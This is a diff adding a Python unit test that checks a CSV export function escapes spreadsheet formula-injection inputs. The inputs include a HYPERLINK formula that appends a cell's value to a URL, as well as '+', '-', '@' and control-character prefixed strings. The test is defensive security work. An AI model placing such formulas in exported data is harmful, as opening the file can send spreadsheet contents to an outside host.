@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import csv
 import gzip
+import io
 import json
 import re
 import sys
@@ -987,3 +988,15 @@ def test_a_category_cannot_turn_what_follows_or_break_a_figure():
     archive = SimpleNamespace(manifest=lambda *_, **__: {"counts": counts})
     assert page.categories(archive, "demo") == {"train": {"\\u202eevil": 3, "a\\u0001b": 2, "Drugs": 1}}
     assert page._counts(archive, "demo")["train categories"] == "\\u202eevil 3, a\\u0001b 2, Drugs 1"
+
+
+def test_no_text_of_data_is_a_formula_in_a_file_that_a_spreadsheet_opens():
+    formulas = ['=HYPERLINK("http://x/"&A1,"see")', "+1", "-1", "@SUM(A1)"]
+    texts = [*formulas, "\t=1", "\r=1", "a\r=1", "Violence", "a=b", None]
+    numbers = {"negatives": range(-1, 9), "mean": [-0.5] * 10, "metric": ["reward/cost"] * 10}
+    rows = pd.DataFrame({"category": texts} | numbers)
+    read = list(csv.reader(io.StringIO(tables.as_csv([rows], list(rows.columns)), newline="")))
+    kept = ["\\u0009=1", "\\u000d=1", "a\\u000d=1", "Violence", "a=b", ""]
+    assert [row[0] for row in read[1:]] == [*(f"'{text}" for text in formulas), *kept]
+    assert read[1][1:] == ["-1", "-0.5", "reward/cost"]
+    assert rows["category"].to_list() == texts, "the caller's own rows are as before"
